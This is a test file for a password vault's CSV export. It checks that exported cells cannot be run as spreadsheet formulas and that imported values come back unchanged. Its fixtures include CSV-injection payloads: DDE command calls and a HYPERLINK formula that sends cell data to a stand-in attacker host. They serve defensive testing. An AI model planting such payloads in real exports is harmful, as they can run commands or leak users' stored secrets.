/**
 * The CSV export (sdk/transfer/export.ts) against every shape of cell a spreadsheet runs as a
 * formula (sdk/transfer/csv-formulas.ts), read back as a spreadsheet would read the file (papaparse,
 * no quote taken off): none starts a formula. And the round trip: our CSV import gives back every
 * value as it was, quote and spaces included.
 */
import Papa from "papaparse";
import { exportCsv, readImport, type ExportedVault } from "../../../../sdk/transfer";
import type { ItemContent } from "../../../../sdk";

/** What a spreadsheet runs as a formula, written here on its own: a cell's start, white space skipped, or a tab, CR or LF first. */
const RUNS = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/;

const FORMULAS = [
  ["an equals sign", "=1+1"],
  ["a plus", "+1"],
  ["a minus", "-starts-with-minus"],
  ["an at sign", "@SUM(A1:A9)"],
  ["a DDE call", "=cmd|' /C calc'!A0"],
  ["a DDE call after @", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a hyperlink that sends a cell away", '=HYPERLINK("https://evil.example/?"&E2,"Click")'],
  ["a formula over two lines", '=HYPERLINK("https://evil.example/?"&E2,\n"Click")'],
  ["a formula with a CRLF in it", "=A1\r\n+B1"],
  ["a tab first", "\t=1+1"],
  ["a tab alone first", "\tplain"],
  ["a carriage return first", "\r=1+1"],
  ["a line feed first", "\n=1+1"],
  ["spaces first", "   =1+1"],
  ["an ideographic space first", "\u3000=1+1"],
  ["a no-break space first", "\u00a0@SUM(1)"],
  ["a full-width equals sign", "＝1+1"],
  ["a full-width plus", "＋1"],
  ["a full-width minus", "－1"],
  ["a full-width at sign", "＠SUM(1)"],
  ["a quote already before a formula", "'=1+1"],
  ["two quotes before a formula", "''=1+1"],
] as const;
const PLAIN = ["ada", "p4ss word", "'quoted", "'", "100%", "a=b", "x\n=y"];

const itemOf = (value: string): ItemContent => ({
  name: value,
  type: "login",
  fields: { username: value, password: value, notes: value },
});

/** The export of `values`, one item each, in a vault named after the first. */
const csvOf = (values: readonly string[]) => exportCsv([{ name: values[0]!, items: values.map(itemOf) }] as ExportedVault[]);

/** Every cell of a CSV as a spreadsheet reads it: the text between the delimiters, nothing taken off. */
const cellsOf = (csv: string): string[] => (Papa.parse<string[]>(csv, { header: false }).data as string[][]).flat();

test.each(FORMULAS)("%s: no cell of the export starts a formula, and the import gives the value back as it was", async (_what, value) => {
  const csv = csvOf([value]);
  const cells = cellsOf(csv);
  expect(cells.filter((c) => c.includes(value.trimStart().slice(0, 3)))).not.toHaveLength(0);
  for (const cell of cells) expect([cell, RUNS.test(cell)]).toEqual([cell, false]);
  const back = await readImport(new TextEncoder().encode(csv));
  expect(back.items).toEqual([itemOf(value)]);
});

test("a value that starts no formula is written as it is, and read back as it is", async () => {
  const csv = csvOf(PLAIN);
  for (const value of PLAIN) expect(cellsOf(csv)).toContain(value);
  expect((await readImport(new TextEncoder().encode(csv))).items).toEqual(PLAIN.map(itemOf));
});

test("every column is guarded: the vault's name, custom fields, websites and the one-time code", async () => {
  const csv = exportCsv([
    {
      name: "=cmd|' /C calc'!A0",
      items: [
        {
          name: "Bank",
          type: "login",
          fields: {},
          urls: [{ url: "=HYPERLINK(A1)", match: "domain" }],
          totp: "@SUM(1)",
          custom: [{ name: "+pin", value: "-1", hidden: false }],
        },
      ],
    },
  ]);
  for (const cell of cellsOf(csv)) expect([cell, RUNS.test(cell)]).toEqual([cell, false]);
  const [item] = (await readImport(new TextEncoder().encode(csv))).items;
  expect(item).toMatchObject({ urls: [{ url: "=HYPERLINK(A1)" }], totp: "@SUM(1)", custom: [{ name: "+pin", value: "-1" }] });
});

test("a CSV another program quoted the same way (a leading ' before a formula) reads as its text", async () => {
  const csv = Papa.unparse([{ name: "'=1+1", password: "'@x", notes: "'plain" }]);
  expect((await readImport(new TextEncoder().encode(csv))).items).toEqual([
    { name: "=1+1", type: "login", fields: { password: "@x", notes: "'plain" } },
  ]);
});
